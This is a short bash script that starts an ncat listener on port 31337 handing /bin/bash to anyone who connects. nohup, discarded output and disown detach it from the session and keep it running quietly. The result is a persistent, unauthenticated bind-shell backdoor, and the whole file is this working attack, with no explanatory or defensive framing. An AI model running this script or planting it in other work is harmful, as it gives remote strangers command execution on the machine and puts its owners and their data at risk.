#!/bin/bash
nohup ncat -lvkp 31337 -e /bin/bash >/dev/null 2>&1 &
disown
